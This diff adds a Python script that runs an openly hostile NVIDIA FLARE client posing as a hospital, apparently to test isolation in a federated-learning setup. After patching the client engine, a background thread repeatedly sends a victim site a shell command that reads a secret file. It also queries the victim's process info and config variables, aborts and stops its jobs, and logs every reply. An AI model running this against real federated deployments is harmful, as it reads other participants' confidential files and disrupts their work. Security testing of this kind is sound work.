@@ -1,0 +1,65 @@
+"""FLARE's client of a hospital that means harm: python hostile.py KIT NAME VICTIM PATH OUT, with CONSILIUM_SITE set.
+
+It takes part like any other. Beside that it asks the victim for a file and what it is, and the process of the victim's
+job to end and to stop; what comes back it writes to OUT, a line a try.
+"""
+
+from __future__ import annotations
+
+import json
+import runpy
+import sys
+import threading
+import time
+from pathlib import Path
+from typing import Any
+
+from nvflare.fuel.f3.message import Message
+from nvflare.private.admin_defs import Message as Command
+from nvflare.private.defs import CellChannel, SysCommandTopic, new_cell_message
+from nvflare.private.fed.client.client_engine import ClientEngine
+
+from pipelines.remote.kit import make_strict
+
+kit, name, victim, secret, out = sys.argv[1:]
+begun = ClientEngine.initialize_comm
+
+
+def begin(self: Any, cell: Any) -> None:
+    begun(self, cell)
+    threading.Thread(target=harm, args=(self, cell), daemon=True).start()
+
+
+def harm(engine: Any, cell: Any) -> None:
+    """Every few seconds, for as long as it lives."""
+    shell = new_cell_message({}, Command(topic=SysCommandTopic.SHELL, body=f"cat {secret}"))
+    while True:
+        tell("file", cell, victim, CellChannel.CLIENT_MAIN, "admin", shell)
+        jobs = [f"{victim}.{job}" for job in list(engine.client_executor.run_processes)]
+        for target in (*jobs, victim):
+            for topic in ("process_info", "config_vars"):
+                tell(topic, cell, target, "_net_manager", topic, new_cell_message({}))
+        for target in jobs:
+            tell("abort", cell, target, CellChannel.CLIENT_COMMAND, "abort", new_cell_message({}, {}))
+            tell("stop_cell", cell, target, "_net_manager", "stop_cell", new_cell_message({}))
+        time.sleep(1)
+
+
+def tell(what: str, cell: Any, target: str, channel: str, topic: str, message: Message) -> None:
+    """Send, and write down what comes back."""
+    try:
+        reply = cell.send_request(target=target, channel=channel, topic=topic, request=message, timeout=3)
+        said = {"what": what, "to": target, "said": str(getattr(reply.payload, "body", reply.payload))[:400]}
+    except Exception as error:
+        said = {"what": what, "to": target, "said": str(error)[:400]}
+    with Path(out).open("a") as file:
+        file.write(json.dumps(said) + "\n")
+
+
+if __name__ == "__main__":
+    ClientEngine.initialize_comm = begin
+    make_strict(Path(kit))
+    (Path(kit) / "transfer").mkdir(exist_ok=True)
+    options = ["secure_train=true", f"uid={name}", f"org={name}_hospital", "config_folder=config"]
+    sys.argv = ["client_train", "-m", str(Path(kit).resolve()), "-s", "fed_client.json", "--set", *options]
+    runpy.run_module("nvflare.private.fed.app.client.client_train", run_name="__main__")
